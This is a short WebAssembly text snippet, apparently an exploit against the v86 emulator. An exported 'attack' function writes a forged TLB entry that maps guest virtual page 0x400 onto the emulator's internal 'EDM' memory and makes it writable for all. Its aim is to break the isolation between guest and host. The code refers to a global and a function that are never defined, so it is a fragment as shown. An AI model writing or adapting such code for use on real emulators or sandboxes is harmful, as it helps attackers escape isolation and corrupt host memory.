;; A TLB entry that leads the guest to EDM: virtual page 0x400 becomes EDM's first page, writable for all.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (i32.store (i32.add (global.get $TLB) (i32.shl (i32.const 0x400) (i32.const 2)))
    (i32.or (i32.xor (call $edm) (i32.const 0x400000)) (i32.const 1))))
